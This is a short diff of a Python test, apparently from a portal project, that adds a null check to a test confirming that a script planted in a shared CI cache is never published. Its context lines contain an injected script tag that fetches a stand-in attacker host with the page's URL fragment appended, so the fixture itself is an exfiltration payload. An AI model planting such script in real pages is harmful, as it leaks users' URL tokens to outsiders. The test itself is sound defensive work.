@@ -267,6 +267,7 @@ def test_a_planted_shell_is_never_published(portal: Project, tmp_path: Path) -> 
     from the master secret: one planted in a shared CI cache is ignored."""
     cache = portal.root / ".handover" / "cache" / "shells.json"
     stored = read_json(cache)
+    assert stored is not None
     planted = "<script>fetch('https://evil.example/'+location.hash)</script>"
     for row in stored["data"]["shells"]:
         row[3] = row[3].replace("</head>", planted + "</head>")
